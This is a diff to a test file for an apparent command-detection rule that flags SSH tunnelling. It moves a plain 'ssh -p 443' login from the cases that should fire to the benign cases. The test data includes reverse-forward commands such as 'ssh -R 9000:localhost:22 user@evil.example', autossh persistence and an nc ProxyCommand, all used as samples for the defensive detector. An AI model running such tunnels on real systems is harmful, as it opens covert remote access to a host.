@@ -114,7 +114,7 @@ test('gpu.foreign-memory-access', () => {
   );
 });
 
-test('tunnel.ssh-forward: -R/-L/-D/-J, combined flags, -o forwards, odd ports, autossh', () => {
+test('tunnel.ssh-forward: -R/-L/-D/-J, combined flags, -o forwards, autossh (ranks in tunnel-ssh.test.ts)', () => {
   for (const argv of [
     ['ssh', '-R', '9000:localhost:22', 'user@evil.example'],
     ['ssh', '-fNR', '2222:127.0.0.1:22', 'a@b'],
@@ -123,7 +123,6 @@ test('tunnel.ssh-forward: -R/-L/-D/-J, combined flags, -o forwards, odd ports, a
     ['ssh', '-J', 'jump', 'h'],
     ['ssh', '-o', 'RemoteForward=9000 localhost:22', 'h'],
     ['ssh', '-oProxyCommand=nc %h %p', 'h'],
-    ['ssh', '-p', '443', 'u@h'],
     ['autossh', '-M', '0', '-f', '-N', '-R', '8022:localhost:22', 'u@h'],
   ])
     assert.deepEqual(fire(exec(argv)), ['tunnel.ssh-forward'], argv.join(' '));
@@ -131,12 +130,13 @@ test('tunnel.ssh-forward: -R/-L/-D/-J, combined flags, -o forwards, odd ports, a
     fire(
       exec(['ssh', '-o', 'BatchMode=yes', 'git@github.com', "git-upload-pack 'org/repo.git'"]),
       exec(['ssh', '-p', '2222', '-i', '/home/u/.ssh/id_ed25519', 'u@login']),
+      exec(['ssh', '-p', '443', 'u@h']),
       exec(['ssh', '-l', 'R', 'host']),
       exec(['ssh', '-o', 'GatewayPorts=no', 'host']),
       exec(['scp', '-P', '22', 'a', 'b:']),
     ),
     [],
-    'git over ssh, an ordinary login, -l taking "R" as its argument',
+    'git over ssh, an ordinary login, a port alone, -l taking "R" as its argument',
   );
 });
 
